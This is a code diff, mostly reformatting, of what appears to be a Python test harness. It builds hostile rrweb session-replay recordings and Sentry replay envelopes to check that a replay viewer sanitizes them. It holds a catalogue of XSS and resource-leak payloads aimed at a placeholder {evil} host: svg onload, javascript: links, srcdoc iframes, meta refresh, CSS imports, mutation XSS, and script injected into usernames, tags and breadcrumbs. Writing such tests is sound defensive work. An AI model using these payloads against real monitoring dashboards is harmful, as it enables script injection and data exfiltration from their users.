@@ -42,35 +42,131 @@ def attacks() -> dict[str, dict[str, Any]]:
         "img src elsewhere": {"body": [e("img", {"src": "{evil}/pixel.gif", "srcset": "{evil}/pixel2.gif 2x"})]},
         "svg onload": {"body": [e("svg", {"onload": "{run}"}, **svg)]},
         "svg script": {"body": [e("svg", {}, e("script", {"href": "{evil}/svg.js"}, t("{run}"), **svg), **svg)]},
-        "svg image and use": {"body": [e("svg", {}, e("image", {"href": "{evil}/i.svg"}, **svg), e("use", {"xlink:href": "{evil}/u.svg#a"}, **svg), **svg)]},
-        "svg foreignObject": {"body": [e("svg", {}, e("foreignObject", {}, e("iframe", {"srcdoc": "<script>{run}</script>"}), **svg), **svg)]},
+        "svg image and use": {
+            "body": [e("svg", {}, e("image", {"href": "{evil}/i.svg"}, **svg), e("use", {"xlink:href": "{evil}/u.svg#a"}, **svg), **svg)]
+        },
+        "svg foreignObject": {
+            "body": [e("svg", {}, e("foreignObject", {}, e("iframe", {"srcdoc": "<script>{run}</script>"}), **svg), **svg)]
+        },
         "javascript: link": {"body": [e("a", {"href": "javascript:{run}", "autofocus": ""}, t("click"))], "click": True},
         "javascript: frame": {"body": [e("iframe", {"src": "javascript:{run}"})]},
         "srcdoc": {"body": [e("iframe", {"srcdoc": "<script>{run}</script><img src={evil}/srcdoc.gif onerror='{run}'>"})]},
         "frame elsewhere": {"body": [e("iframe", {"src": "{evil}/frame.html"}), e("iframe", {"rr_src": "{evil}/rr.html"})]},
         "meta refresh": {"head": [e("meta", {"http-equiv": "refresh", "content": "0;url={evil}/refresh"})]},
         "meta refresh to script": {"head": [e("meta", {"http-equiv": "refresh", "content": "0;url=javascript:{run}"})]},
-        "form": {"body": [e("form", {"action": "{evil}/form", "method": "post", "target": "_top"}, e("button", {"autofocus": "", "formaction": "javascript:{run}"}, t("go")))], "click": True},
-        "base": {"head": [e("base", {"href": "{evil}/", "target": "_top"})], "body": [e("img", {"src": "base.gif"}), e("a", {"href": "away"}, t("go"))], "click": True},
+        "form": {
+            "body": [
+                e(
+                    "form",
+                    {"action": "{evil}/form", "method": "post", "target": "_top"},
+                    e("button", {"autofocus": "", "formaction": "javascript:{run}"}, t("go")),
+                )
+            ],
+            "click": True,
+        },
+        "base": {
+            "head": [e("base", {"href": "{evil}/", "target": "_top"})],
+            "body": [e("img", {"src": "base.gif"}), e("a", {"href": "away"}, t("go"))],
+            "click": True,
+        },
         "link stylesheet": {"head": [e("link", {"rel": "stylesheet", "href": "{evil}/style.css"})]},
-        "link preload": {"head": [e("link", {"rel": "preload", "as": "image", "href": "{evil}/preload.gif"}), e("link", {"rel": "prefetch", "href": "{evil}/prefetch"}),
-                                  e("link", {"rel": "modulepreload", "href": "{evil}/mp.js"}), e("link", {"rel": "icon", "href": "{evil}/icon.png"})]},
+        "link preload": {
+            "head": [
+                e("link", {"rel": "preload", "as": "image", "href": "{evil}/preload.gif"}),
+                e("link", {"rel": "prefetch", "href": "{evil}/prefetch"}),
+                e("link", {"rel": "modulepreload", "href": "{evil}/mp.js"}),
+                e("link", {"rel": "icon", "href": "{evil}/icon.png"}),
+            ]
+        },
         "css import": {"head": [e("style", {}, t("@import '{evil}/import.css'; body { color: red }", style=True))]},
-        "css text of a link": {"head": [e("link", {"rel": "stylesheet", "_cssText": "@import '{evil}/csstext.css'; body { background: url({evil}/csstext.gif) }"})]},
-        "css url": {"head": [e("style", {}, t("body { background: url({evil}/css.gif); cursor: url({evil}/c.cur), auto } p::after { content: url({evil}/a.png) }", style=True))], "body": [e("p", {}, t("p"))]},
-        "css font": {"head": [e("style", {}, t("@font-face { font-family: f; src: url({evil}/f.woff2) } * { font-family: f }", style=True))], "body": [e("p", {}, t("letters"))]},
-        "inline style": {"body": [e("div", {"style": "background-image: url({evil}/inline.gif); width: 99px; height: 99px; list-style: url({evil}/l.gif)"})]},
-        "object and embed": {"body": [e("object", {"data": "{evil}/object.html", "type": "text/html"}), e("embed", {"src": "{evil}/embed.html", "type": "text/html"})]},
-        "media": {"body": [e("video", {"src": "{evil}/v.mp4", "poster": "{evil}/poster.gif", "autoplay": ""}), e("audio", {"src": "{evil}/a.mp3", "autoplay": "", "onerror": "{run}"})]},
+        "css text of a link": {
+            "head": [
+                e("link", {"rel": "stylesheet", "_cssText": "@import '{evil}/csstext.css'; body { background: url({evil}/csstext.gif) }"})
+            ]
+        },
+        "css url": {
+            "head": [
+                e(
+                    "style",
+                    {},
+                    t(
+                        "body { background: url({evil}/css.gif); cursor: url({evil}/c.cur), auto } p::after { content: url({evil}/a.png) }",
+                        style=True,
+                    ),
+                )
+            ],
+            "body": [e("p", {}, t("p"))],
+        },
+        "css font": {
+            "head": [e("style", {}, t("@font-face { font-family: f; src: url({evil}/f.woff2) } * { font-family: f }", style=True))],
+            "body": [e("p", {}, t("letters"))],
+        },
+        "inline style": {
+            "body": [
+                e("div", {"style": "background-image: url({evil}/inline.gif); width: 99px; height: 99px; list-style: url({evil}/l.gif)"})
+            ]
+        },
+        "object and embed": {
+            "body": [
+                e("object", {"data": "{evil}/object.html", "type": "text/html"}),
+                e("embed", {"src": "{evil}/embed.html", "type": "text/html"}),
+            ]
+        },
+        "media": {
+            "body": [
+                e("video", {"src": "{evil}/v.mp4", "poster": "{evil}/poster.gif", "autoplay": ""}),
+                e("audio", {"src": "{evil}/a.mp3", "autoplay": "", "onerror": "{run}"}),
+            ]
+        },
         "focus handler": {"body": [e("input", {"autofocus": "", "onfocus": "{run}", "onblur": "{run}"})], "click": True},
         "toggle handler": {"body": [e("details", {"open": "", "ontoggle": "{run}"}, t("d"))]},
         "body handlers": {"attributes": {"onload": "{run}", "onpageshow": "{run}", "onresize": "{run}", "background": "{evil}/bg.gif"}},
-        "script added later": {"adds": [e("script", {}, t("{run}")), e("script", {"src": "{evil}/later.js"}), e("img", {"src": "{evil}/later.gif", "onerror": "{run}"}), e("iframe", {"srcdoc": "<script>{run}</script>"})]},
-        "attributes changed later": {"body": [e("img", {"src": "data:,", "rr_width": "9px"}), e("a", {"href": "#"}, t("a"))], "change": {"onerror": "{run}", "src": "{evil}/changed.gif", "srcdoc": "<script>{run}</script>", "href": "javascript:{run}", "style": {"background": "url({evil}/changed2.gif)"}}},
-        "rule inserted later": {"head": [e("style", {}, t("p { color: red }", style=True))], "rule": "body { background: url({evil}/rule.gif) }"},
-        "shadow root": {"body": [e("div", {}, e("script", {}, t("{run}"), isShadow=True), e("img", {"src": "{evil}/shadow.gif", "onerror": "{run}"}, isShadow=True), isShadowHost=True)]},
-        "canvas picture": {"body": [e("canvas", {"rr_dataURL": "{evil}/canvas.png", "width": "9", "height": "9"}), e("img", {"rr_dataURL": "{evil}/dataurl.png"})]},
-        "mutation xss": {"body": [e("noscript", {}, t("</noscript><img src=x onerror=\"{run}\">")), e("template", {}, t("<script>{run}</script>")), e("math", {}, e("mtext", {}, t("</math><script>{run}</script>")))]},
+        "script added later": {
+            "adds": [
+                e("script", {}, t("{run}")),
+                e("script", {"src": "{evil}/later.js"}),
+                e("img", {"src": "{evil}/later.gif", "onerror": "{run}"}),
+                e("iframe", {"srcdoc": "<script>{run}</script>"}),
+            ]
+        },
+        "attributes changed later": {
+            "body": [e("img", {"src": "data:,", "rr_width": "9px"}), e("a", {"href": "#"}, t("a"))],
+            "change": {
+                "onerror": "{run}",
+                "src": "{evil}/changed.gif",
+                "srcdoc": "<script>{run}</script>",
+                "href": "javascript:{run}",
+                "style": {"background": "url({evil}/changed2.gif)"},
+            },
+        },
+        "rule inserted later": {
+            "head": [e("style", {}, t("p { color: red }", style=True))],
+            "rule": "body { background: url({evil}/rule.gif) }",
+        },
+        "shadow root": {
+            "body": [
+                e(
+                    "div",
+                    {},
+                    e("script", {}, t("{run}"), isShadow=True),
+                    e("img", {"src": "{evil}/shadow.gif", "onerror": "{run}"}, isShadow=True),
+                    isShadowHost=True,
+                )
+            ]
+        },
+        "canvas picture": {
+            "body": [
+                e("canvas", {"rr_dataURL": "{evil}/canvas.png", "width": "9", "height": "9"}),
+                e("img", {"rr_dataURL": "{evil}/dataurl.png"}),
+            ]
+        },
+        "mutation xss": {
+            "body": [
+                e("noscript", {}, t('</noscript><img src=x onerror="{run}">')),
+                e("template", {}, t("<script>{run}</script>")),
+                e("math", {}, e("mtext", {}, t("</math><script>{run}</script>"))),
+            ]
+        },
         "texts of the panes": {"notes": True},
     }
 
@@ -89,7 +185,9 @@ def events(attack: dict[str, Any], evil: str, at: int) -> Iterator[dict[str, Any
     """The rrweb events of one recording that begins at `at` (ms)."""
     b = Builder()
     b.numbers = itertools.count(90_001)
-    body = b.element("body", attack.get("attributes"), *attack.get("body", []), b.element("main", {"id": "honest"}, b.text("an honest word")))
+    body = b.element(
+        "body", attack.get("attributes"), *attack.get("body", []), b.element("main", {"id": "honest"}, b.text("an honest word"))
+    )
     head = b.element("head", {}, *attack.get("head", []))
     html = b.element("html", {}, head, body)
     document = {"type": 0, "childNodes": [{"type": 1, "name": "html", "publicId": "", "systemId": "", "id": 99_998}, html], "id": 99_999}
@@ -109,18 +207,34 @@ def events(attack: dict[str, Any], evil: str, at: int) -> Iterator[dict[str, Any
     if rule := attack.get("rule"):
         yield {"type": 3, "timestamp": at + 200, "data": {"source": 8, "id": victim, "adds": [{"rule": rule, "index": 0}]}}
     if attack.get("notes"):
-        bad = "<img src={evil}/pane.gif onerror=\"{run}\"><script>{run}</script>"
+        bad = '<img src={evil}/pane.gif onerror="{run}"><script>{run}</script>'
         node = {"id": 1, "tagName": "button", "textContent": bad, "attributes": {"id": bad, "class": bad}}
-        for offset, payload in enumerate((
-            {"category": "ui.click", "message": bad, "data": {"nodeId": 1, "node": node}},
-            {"category": "console", "level": "error", "message": bad, "data": {"arguments": [bad, {"a": bad}]}},
-            {"category": "navigation", "data": {"to": "javascript:" + bad}},
-        )):
-            yield {"type": 5, "timestamp": at + 100 + offset, "data": {"tag": "breadcrumb", "payload": {"type": "default", "timestamp": (at + 100 + offset) / 1000, **payload}}}
-        span = {"op": "resource.fetch", "description": bad, "startTimestamp": at / 1000, "endTimestamp": at / 1000 + 1, "data": {"method": bad, "statusCode": 500}}
+        for offset, payload in enumerate(
+            (
+                {"category": "ui.click", "message": bad, "data": {"nodeId": 1, "node": node}},
+                {"category": "console", "level": "error", "message": bad, "data": {"arguments": [bad, {"a": bad}]}},
+                {"category": "navigation", "data": {"to": "javascript:" + bad}},
+            )
+        ):
+            yield {
+                "type": 5,
+                "timestamp": at + 100 + offset,
+                "data": {"tag": "breadcrumb", "payload": {"type": "default", "timestamp": (at + 100 + offset) / 1000, **payload}},
+            }
+        span = {
+            "op": "resource.fetch",
+            "description": bad,
+            "startTimestamp": at / 1000,
+            "endTimestamp": at / 1000 + 1,
+            "data": {"method": bad, "statusCode": 500},
+        }
         yield {"type": 5, "timestamp": at / 1000, "data": {"tag": "performanceSpan", "payload": span}}
     for step in range(4):
-        yield {"type": 3, "timestamp": at + 400 + step * 100, "data": {"source": 1, "positions": [{"x": 9 + step, "y": 9, "id": body["id"], "timeOffset": 0}]}}
+        yield {
+            "type": 3,
+            "timestamp": at + 400 + step * 100,
+            "data": {"source": 1, "positions": [{"x": 9 + step, "y": 9, "id": body["id"], "timeOffset": 0}]},
+        }
 
 
 def envelope(name: str, attack: dict[str, Any], evil: str) -> tuple[str, bytes]:
@@ -128,16 +242,30 @@ def envelope(name: str, attack: dict[str, Any], evil: str) -> tuple[str, bytes]:
     replay_id = uuid.uuid4().hex
     now = time.time()
     tape = zlib.compress(json.dumps([_say(event, evil) for event in events(attack, evil, int(now * 1000) - 20_000)]).encode())
-    bad = _say("<img src={evil}/name.gif onerror=\"{run}\">", evil)
+    bad = _say('<img src={evil}/name.gif onerror="{run}">', evil)
     event = {
-        "type": "replay_event", "replay_id": replay_id, "event_id": replay_id, "segment_id": 0, "replay_type": "session", "platform": "javascript",
-        "timestamp": now - 18, "replay_start_timestamp": now - 20, "urls": [f"javascript:alert(1)//{bad}"], "error_ids": [], "trace_ids": [],
-        "user": {"username": f"{name} {bad}"}, "tags": {"attack": bad[:180]}, "release": bad[:100], "environment": "hostile",
+        "type": "replay_event",
+        "replay_id": replay_id,
+        "event_id": replay_id,
+        "segment_id": 0,
+        "replay_type": "session",
+        "platform": "javascript",
+        "timestamp": now - 18,
+        "replay_start_timestamp": now - 20,
+        "urls": [f"javascript:alert(1)//{bad}"],
+        "error_ids": [],
+        "trace_ids": [],
+        "user": {"username": f"{name} {bad}"},
+        "tags": {"attack": bad[:180]},
+        "release": bad[:100],
+        "environment": "hostile",
     }
     recording = b'{"segment_id":0}\n' + tape
     lines = [
         json.dumps({"event_id": replay_id, "sent_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now))}).encode(),
-        b'{"type":"replay_event"}', json.dumps(event).encode(),
-        json.dumps({"type": "replay_recording", "length": len(recording)}).encode(), recording,
+        b'{"type":"replay_event"}',
+        json.dumps(event).encode(),
+        json.dumps({"type": "replay_recording", "length": len(recording)}).encode(),
+        recording,
     ]
     return replay_id, b"\n".join(lines) + b"\n"
